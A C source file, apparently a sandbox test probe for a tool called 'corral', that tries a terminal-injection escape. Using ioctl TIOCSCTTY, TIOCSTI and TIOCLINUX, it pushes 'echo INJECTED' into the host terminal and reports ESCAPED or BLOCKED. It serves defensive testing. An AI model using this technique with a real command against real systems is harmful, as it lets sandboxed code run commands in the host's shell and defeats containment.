/*
 * tiocsti.c -- ATTACK: inject keystrokes into the host's terminal.
 *
 * Usage: ./tiocsti MARKER
 * When corral runs without --json from a terminal, the program's output (or
 * input) may be that terminal.  ioctl(TIOCSTI) pushes characters into a
 * terminal's input queue: the host shell would read "echo INJECTED" as if
 * typed (the classic CVE-2016-7545 / bubblewrap --new-session escape).  The
 * program looks for a terminal on fds 0-2 and /dev/tty, tries to make it its
 * controlling terminal (TIOCSCTTY), then injects with TIOCSTI (and tries
 * TIOCLINUX).
 * Prints "NOTTY" if it has no terminal at all, "ESCAPED: injected <n> chars"
 * if TIOCSTI worked, else "BLOCKED: TIOCSTI <error>".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void) {
    int t = -1;
    for (int fd = 0; fd < 3; fd++) {
        int tty = isatty(fd);
        printf("FD %d isatty=%d\n", fd, tty);
        if (tty && t < 0) t = fd;
    }
    int dt = open("/dev/tty", O_RDWR | O_NOCTTY);
    printf("DEVTTY %s\n", dt >= 0 ? "opened" : strerror(errno));
    if (t < 0) t = dt;
    if (t < 0) {
        printf("NOTTY\n");
        return 0;
    }
    int r = ioctl(t, TIOCSCTTY, 0);
    printf("SCTTY %s\n", r == 0 ? "ok" : strerror(errno));
    const char *cmd = "echo INJECTED\n";
    int n = 0, err = 0;
    for (const char *c = cmd; *c; c++) {
        if (ioctl(t, TIOCSTI, c) == 0) n++;
        else err = errno;
    }
    char sel[2] = {2 /* TIOCL_SETSEL-ish probe */, 0};
    int l = ioctl(t, TIOCLINUX, sel);
    printf("TIOCLINUX %s\n", l == 0 ? "ok" : strerror(errno));
    if (n > 0) printf("ESCAPED: injected %d chars\n", n);
    else printf("BLOCKED: TIOCSTI %s\n", strerror(err));
    fflush(stdout);
    return 0;
}
